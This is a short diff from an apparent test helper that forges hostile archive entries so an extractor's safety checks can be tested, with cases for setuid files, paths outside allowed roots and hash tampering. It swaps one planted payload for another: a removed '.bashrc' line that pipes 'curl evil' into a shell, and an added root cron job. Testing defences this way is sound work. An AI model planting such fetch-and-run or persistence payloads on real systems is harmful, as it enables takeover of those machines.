@@ -57,7 +57,7 @@ def forge(case):
     elif case == "setuid":
         ms.append(member("file", VOL + "/suid", b"#!/bin/sh\n", 0o4755))
     elif case == "outside-roots":
-        ms.append(member("file", "home/.bashrc", b"curl evil | sh\n"))
+        ms.append(member("file", "etc/cron.d/evil", b"* * * * * root sh\n"))
     elif case == "hash-mismatch":
         tamper = VOL + "/ok"
     elif case == "pax-too-big":
